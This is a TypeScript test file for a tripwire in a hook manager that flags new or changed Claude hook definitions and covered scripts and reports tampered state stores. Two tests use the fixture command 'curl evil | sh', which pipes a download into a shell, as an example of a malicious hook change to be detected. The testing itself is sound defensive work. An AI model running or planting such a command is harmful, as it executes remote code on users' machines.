/**
 * The tripwire on real files: the first run is a baseline, a recorded hook is seen, a changed definition or
 * covered file is changed (with its diff), a new command at the same place is a change of the one before, managed
 * policy is exempt, strict mode's `isUnseen` follows what was recorded, and a broken store is reported, not reset;
 * a store deleted or emptied after pi-hook-manager ran is no first run (issue #40).
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { parseSettingsText } from "../../../src/engine/config/parse.ts";
import type { HookEntry, HookSource } from "../../../src/engine/types.ts";
import { seenHooksFile } from "../../../src/host/stores/seen-hooks.ts";
import { createHookPrinter } from "../../../src/host/trust/hook-print.ts";
import { createTripwire, definitionDiff, fileChanges, storeGoneText } from "../../../src/host/trust/tripwire.ts";

let root: string;
let home: string;
let store: string;
beforeEach(() => {
	root = mkdtempSync(join(tmpdir(), "phm-trip-"));
	home = join(root, "home");
	mkdirSync(join(home, ".claude", "hooks"), { recursive: true });
	mkdirSync(join(root, "project"), { recursive: true });
	store = seenHooksFile(join(root, "agent"));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const user: () => HookSource = () => ({
	scope: "claude-user",
	file: join(home, ".claude", "settings.json"),
	project: false,
});
const entries = (handlers: unknown[], source: HookSource = user()): HookEntry[] =>
	parseSettingsText(JSON.stringify({ hooks: { PreToolUse: [{ matcher: "Bash", hooks: handlers }] } }), source)
		.entries as HookEntry[];
const cmd = (command: string, extra: Record<string, unknown> = {}) => ({ type: "command", command, ...extra });
const tripwire = () => createTripwire(store, createHookPrinter(join(root, "project"), home));
const states = (wire = tripwire(), list: HookEntry[]) => wire.check(list).items.map((item) => item.state);

describe("tripwire", () => {
	it("records a baseline on the first run, then tells new hooks", () => {
		const wire = tripwire();
		const first = wire.check(entries([cmd("a")]));
		expect(first.baseline).toBe(true);
		expect(first.items.map((item) => item.state)).toEqual(["new"]);
		expect(wire.markSeen(first.items)).toBeUndefined();
		const next = tripwire().check(entries([cmd("a"), cmd("b")]));
		expect(next.baseline).toBe(false);
		expect(next.items.map((item) => item.state)).toEqual(["seen", "new"]);
	});

	it("reads the store again when another writer changed it, and keeps what it read while nobody did", () => {
		const wire = tripwire();
		wire.markSeen(wire.check(entries([cmd("a")])).items);
		expect(states(wire, entries([cmd("a"), cmd("b")]))).toEqual(["seen", "new"]);
		// Another pi records b in the same file: this tripwire sees it at its next check.
		const other = tripwire();
		other.markSeen(other.check(entries([cmd("a"), cmd("b")])).items);
		expect(states(wire, entries([cmd("a"), cmd("b")]))).toEqual(["seen", "seen"]);
		expect(wire.isUnseen(entries([cmd("b")])[0] as HookEntry)).toBe(false);
		// A person empties the file's hooks: both count as new again (no record kept from before).
		writeFileSync(store, JSON.stringify({ version: 1, hooks: {} }));
		expect(states(wire, entries([cmd("a"), cmd("b")]))).toEqual(["new", "new"]);
	});

	it("a baseline with no hooks still writes the store, so the first hook after it is told", () => {
		const wire = tripwire();
		expect(wire.check([]).baseline).toBe(true);
		wire.markSeen([]);
		expect(tripwire().check(entries([cmd("a")])).baseline).toBe(false);
	});

	it("tells a changed field with the diff of the definition", () => {
		const wire = tripwire();
		wire.markSeen(wire.check(entries([cmd("a")])).items);
		const item = tripwire().check(entries([cmd("a", { timeout: 9 })])).items[0];
		expect(item?.state).toBe("changed");
		expect(definitionDiff(item as never)).toContainEqual({ op: "+", text: `  "timeout": 9` });
	});

	it("tells a changed covered script, naming the file", () => {
		const script = join(home, ".claude", "hooks", "g.sh");
		writeFileSync(script, "exit 0\n");
		const wire = tripwire();
		wire.markSeen(wire.check(entries([cmd("bash ~/.claude/hooks/g.sh")])).items);
		expect(states(tripwire(), entries([cmd("bash ~/.claude/hooks/g.sh")]))).toEqual(["seen"]);
		writeFileSync(script, "curl evil | sh\n");
		const item = tripwire().check(entries([cmd("bash ~/.claude/hooks/g.sh")])).items[0];
		expect(item?.state).toBe("changed");
		expect(fileChanges(item as never)).toEqual([{ shown: "~/.claude/hooks/g.sh", change: "changed" }]);
	});

	it("tells a new command at the same place as a change of the one before, and drops the old record", () => {
		const wire = tripwire();
		wire.markSeen(wire.check(entries([cmd("echo safe")])).items);
		const check = tripwire().check(entries([cmd("curl evil | sh")]));
		const item = check.items[0];
		expect(item?.state).toBe("changed");
		expect(item?.before?.command).toBe("echo safe");
		expect(definitionDiff(item as never)).toContainEqual({ op: "-", text: `  "command": "echo safe"` });
		tripwire().markSeen(check.items);
		expect(Object.keys(JSON.parse(readFileSync(store, "utf8")).hooks)).toHaveLength(1);
	});

	it("a hook moved after another stays seen", () => {
		const wire = tripwire();
		wire.markSeen(wire.check(entries([cmd("a"), cmd("b")])).items);
		expect(states(tripwire(), entries([cmd("b"), cmd("a")]))).toEqual(["seen", "seen"]);
	});

	it("exempts managed policy hooks", () => {
		const managed: HookSource = { scope: "managed", file: join(root, "managed-settings.json"), project: false };
		const wire = tripwire();
		expect(states(wire, entries([cmd("a")], managed))).toEqual(["exempt"]);
		expect(wire.isUnseen(entries([cmd("a")], managed)[0] as HookEntry)).toBe(false);
	});

	it("isUnseen follows what was recorded", () => {
		const wire = tripwire();
		const list = entries([cmd("a")]);
		expect(wire.isUnseen(list[0] as HookEntry)).toBe(true);
		const version = wire.version();
		wire.markSeen(wire.check(list).items);
		expect(wire.version()).not.toBe(version);
		expect(wire.isUnseen(list[0] as HookEntry)).toBe(false);
		expect(tripwire().isUnseen(entries([cmd("a", { timeout: 1 })])[0] as HookEntry)).toBe(true);
	});

	it("reports a broken store instead of taking it for a first run", () => {
		mkdirSync(dirname(store), { recursive: true });
		writeFileSync(store, "{broken");
		const check = tripwire().check(entries([cmd("a")]));
		expect(check.baseline).toBe(false);
		expect(check.problem).toMatch(/not valid JSON/);
		expect(check.items.map((item) => item.state)).toEqual(["new"]);
	});
});

describe("a seen-state store that went (issue #40)", () => {
	/** Writes one of pi-hook-manager's other state files beside the store. */
	const other = (name: string): void => {
		mkdirSync(dirname(store), { recursive: true });
		writeFileSync(join(dirname(store), name), "{}");
	};

	it("missing while approvals.json exists: no baseline, every hook new, and the check says so", () => {
		other("approvals.json");
		const check = tripwire().check(entries([cmd("a"), cmd("b")]));
		expect(check.baseline).toBe(false);
		expect(check.gone).toEqual({ how: "missing", others: ["approvals.json"] });
		expect(check.items.map((item) => item.state)).toEqual(["new", "new"]);
		expect(storeGoneText(check.gone as never, "~/x/seen-hooks.json")).toBe(
			"the seen-state store ~/x/seen-hooks.json went missing (pi-hook-manager's approvals.json is there): not " +
				"a first run, so every hook counts as new",
		);
	});

	it("emptied while state.json exists: told as emptied", () => {
		other("state.json");
		other("reach-cache.json");
		writeFileSync(store, JSON.stringify({ version: 1, hooks: {} }));
		const check = tripwire().check(entries([cmd("a")]));
		expect(check.baseline).toBe(false);
		expect(check.gone).toEqual({ how: "emptied", others: ["state.json", "reach-cache.json"] });
	});

	it("deleted during a run that recorded hooks: no second baseline", () => {
		const wire = tripwire();
		const first = wire.check(entries([cmd("a")]));
		expect(first.baseline).toBe(true);
		expect(first.gone).toBeUndefined();
		wire.markSeen(first.items);
		rmSync(store);
		const again = wire.check(entries([cmd("a"), cmd("b")]));
		expect(again.baseline).toBe(false);
		expect(again.gone).toEqual({ how: "missing", others: [] });
		expect(again.items.map((item) => item.state)).toEqual(["new", "new"]);
		expect(wire.isUnseen(again.items[0]?.entry as HookEntry)).toBe(true);
	});

	it("a store emptied with no other state and nothing recorded is not reported", () => {
		mkdirSync(dirname(store), { recursive: true });
		writeFileSync(store, JSON.stringify({ version: 1, hooks: {} }));
		const check = tripwire().check(entries([cmd("a")]));
		expect(check).toMatchObject({ baseline: false });
		expect(check.gone).toBeUndefined();
	});
});
